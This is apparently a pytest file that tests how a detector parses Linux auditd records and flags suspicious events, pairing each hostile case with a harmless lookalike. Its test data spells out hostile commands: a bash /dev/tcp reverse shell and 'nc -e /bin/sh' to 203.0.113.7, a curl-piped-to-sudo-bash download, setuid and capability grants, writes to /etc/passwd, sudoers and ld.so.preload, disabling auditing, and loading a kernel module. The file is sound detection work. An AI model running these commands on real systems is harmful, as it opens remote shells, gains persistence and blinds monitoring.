"""Events of Linux's audit log: what each tells, and what only looks like a sign of something.

Written after auditd(8), audit.rules(7), and the record types and field dictionary of the audit project's documentation
(https://github.com/linux-audit/audit-documentation).
"""

from collections.abc import Sequence
from typing import Any

import pytest
from support.lines import CONTEXT, fulfilled, source_of, told

from rules.formats.detect import Pin
from rules.formats.format import Parsed

OUTSIDE = "203.0.113.7"
END = "type=EOE msg=audit(1772334690.000:1): "


def record(kind: str, body: str) -> str:
    return f"type={kind} msg=audit(1772334680.123:4711): {body}"


def call(number: int, exe: str, *records: str, a: str = "a0=1 a1=2 a2=3", end: str = "success=yes exit=0") -> list[str]:
    """A system call (number as on x86-64) of a person who became root, with the records that belong to it."""
    first = (
        f"arch=c000003e syscall={number} {end} {a} a3=0 items=2 ppid=811 pid=812 auid=1000 uid=0 gid=0 euid=0 suid=0 "
        f'fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="x" exe="{exe}" subj=unconfined key=(null)'
    )
    return [record("SYSCALL", first), *records, record("PROCTITLE", 'proctitle="x"')]


def start(exe: str, *arguments: str, end: str = "success=yes exit=0") -> list[str]:
    """A program that starts; arguments with blanks are in hexadecimal, as auditd writes them."""
    shown = [
        f'a{at}="{one}"' if one.isalnum() else f"a{at}={one.encode().hex().upper()}" for at, one in enumerate(arguments)
    ]
    return call(59, exe, record("EXECVE", f"argc={len(arguments)} {' '.join(shown)}"), end=end)


def write(exe: str, path: str, flags: str = "a2=241") -> list[str]:
    """A file that is opened, by default to be written."""
    return call(
        257, exe, record("PATH", f'item=0 name="{path}" inode=1 nametype=NORMAL'), a=f"a0=ffffff9c a1=2 {flags}"
    )


def remove(exe: str, path: str) -> list[str]:
    return call(263, exe, record("PATH", f'item=1 name="{path}" inode=1 nametype=DELETE'))


def message(
    kind: str, op: str, account: str, result: str, where: str = OUTSIDE, exe: str = "/usr/sbin/sshd"
) -> list[str]:
    """What a program writes to the audit log by itself; an account with a blank is in hexadecimal."""
    name = f'"{account}"' if account.isalnum() else account.encode().hex().upper()
    said = f'op={op} acct={name} exe="{exe}" hostname={where} addr={where} terminal=ssh res={result}'
    return [record(kind, f"pid=812 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='{said}'")]


def alone(kind: str, body: str) -> list[str]:
    return [record(kind, body)]


def row(lines: Sequence[str], who: str | None, deed: str, *rules: str, ip: str | None = None) -> tuple[Any, ...]:
    action, _, outcome = deed.partition(" ")
    return list(lines), (ip, who, action, outcome or "success"), list(rules)


MEMORY = "Program started from memory"
SHELL = "Remote shell"
GATES = "Who may become root, or log in, was changed"
OFF = "Auditing switched off"
ATTACHED = "Process written into by another"

EVENTS = [
    row(start("/dev/shm/.x", "x"), "root", "process_start", MEMORY),
    row(start("/memfd:a", "a"), "root", "process_start", MEMORY),
    row(start("/memfd:runc_cloned:/proc/self/exe", "runc"), "root", "process_start"),
    row(start("/tmp/a", "a"), "root", "process_start", "Program started from a folder for temporary files"),
    row(start("/tmp/go-build1/b001/exe/a", "a"), "root", "process_start"),
    row(start("/usr/bin/ls", "ls", "/dev/shm"), "root", "process_start"),
    row(
        start("/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        "root",
        "process_start",
        SHELL,
    ),
    row(start("/usr/bin/nc", "nc", "-e", "/bin/sh", OUTSIDE, "4444"), "root", "process_start", SHELL),
    row(start("/usr/bin/nc", "nc", "-zv", OUTSIDE, "443"), "root", "process_start"),
    row(start("/dev/shm/x", "x", end="success=no exit=-13"), "root", "process_start failure"),
    row(
        start("/usr/bin/sh", "sh", "-c", "curl -s http://a.example/a | sudo bash"),
        "root",
        "process_start",
        "Downloaded text run as a program",
    ),
    row(
        start("/usr/sbin/setcap", "setcap", "cap_setuid+ep", "/tmp/a"),
        "root",
        "process_start",
        "Power given to a program",
    ),
    row(start("/usr/sbin/setcap", "setcap", "cap_net_raw+ep", "/usr/bin/ping"), "root", "process_start"),
    row(start("/usr/bin/chmod", "chmod", "u+s", "/tmp/a"), "root", "process_start", "Program made setuid"),
    row(start("/usr/bin/chmod", "chmod", "0644", "/tmp/a"), "root", "process_start"),
    row(write("/usr/bin/tee", "/etc/passwd"), "root", "file_write", "Accounts written past their tools"),
    row(write("/usr/sbin/usermod", "/etc/shadow"), "root", "file_write"),
    row(write("/usr/bin/cat", "/etc/shadow", "a2=0"), "root", "audit_openat"),
    row(write("/usr/bin/bash", "/root/.ssh/authorized_keys"), "root", "file_write", GATES),
    row(write("/usr/bin/cp", "/etc/sudoers.d/x"), "root", "file_write", GATES),
    row(write("/usr/bin/dpkg", "/etc/pam.d/login"), "root", "file_write"),
    row(write("/usr/bin/cp", "/etc/ld.so.preload"), "root", "file_write", "Library loaded into every program"),
    row(remove("/usr/bin/rm", "/var/log/auth.log"), "root", "file_delete", "Logs removed"),
    row(remove("/usr/sbin/logrotate", "/var/log/auth.log"), "root", "file_delete"),
    row(alone("CONFIG_CHANGE", "op=set audit_enabled=0 old=1 auid=1000 ses=3 res=1"), None, "audit_config_change", OFF),
    row(alone("CONFIG_CHANGE", "op=set audit_enabled=1 old=0 auid=1000 ses=3 res=1"), None, "audit_config_change"),
    row(start("/usr/sbin/auditctl", "auditctl", "-e", "0"), "root", "process_start", OFF),
    row(start("/usr/sbin/auditctl", "auditctl", "-s"), "root", "process_start"),
    row(alone("DAEMON_END", "op=terminate auid=0 pid=1 res=success"), None, "audit_daemon_end", "Audit daemon ended"),
    row(
        alone("MAC_STATUS", "enforcing=0 old_enforcing=1 auid=1000 res=1"),
        None,
        "audit_mac_status",
        "SELinux switched off",
    ),
    row(
        start("/usr/sbin/insmod", "insmod", "/tmp/rk.ko"),
        "root",
        "process_start",
        "Kernel module loaded from an odd place",
    ),
    row(
        call(313, "/usr/bin/kmod", record("KERN_MODULE", 'name="rk"')),
        "root",
        "audit_finit_module",
        "Kernel module loaded by a person",
    ),
    row(call(101, "/usr/local/bin/x", a="a0=10 a1=3e8 a2=0"), "root", "audit_ptrace", ATTACHED),
    row(call(101, "/usr/bin/strace", a="a0=10 a1=3e8 a2=0"), "root", "audit_ptrace"),
    row(call(227, "/usr/bin/date"), "root", "audit_clock_settime", "Clock set by hand"),
    row(call(227, "/usr/sbin/chronyd"), "root", "audit_clock_settime"),
    row(
        message("USER_LOGIN", "login", "(unknown user)", "failed"),
        "(unknown user)",
        "audit_user_login failure",
        "Login failed in the audit log",
        ip=OUTSIDE,
    ),
    row(
        message("USER_LOGIN", "login", "bob", "success"),
        "bob",
        "audit_user_login",
        "Login succeeded in the audit log",
        ip=OUTSIDE,
    ),
    row(message("USER_AUTH", "PAM:authentication", "bob", "failed"), "bob", "audit_user_auth failure", ip=OUTSIDE),
    row(
        message("ADD_USER", "add-user", "eve", "success", "?", "/usr/sbin/useradd"),
        "eve",
        "audit_add_user",
        "Account added in the audit log",
    ),
    row(message("DEL_USER", "delete-user", "eve", "success", "?", "/usr/sbin/userdel"), "eve", "audit_del_user"),
    row(message("CRED_ACQ", "PAM:setcred", "root", "success", "?", "/usr/sbin/cron"), "root", "audit_cred_acq"),
]


def event(lines: Sequence[str]) -> Parsed:
    """The one event that *lines* tell of; the end of another one lets go of what waits."""
    pin = Pin("auditd")
    found: list[Parsed] = []
    for line in (*lines, END):
        _, one = pin.choose(line, CONTEXT)
        if one is not None and one.header is None:
            found += [one, *one.also]
    return found[0]


@pytest.mark.parametrize(("lines", "meaning", "rules"), EVENTS)
def test_events(lines: list[str], meaning: tuple[Any, ...], rules: list[str]) -> None:
    """Each event tells who, from where, what and how it ended, and fulfils the rules that it should."""
    found = event(lines)
    assert source_of(found).endswith("/linux/auditd")
    assert (told(found), fulfilled(found, "\n".join(lines), "audit")) == (meaning, rules)
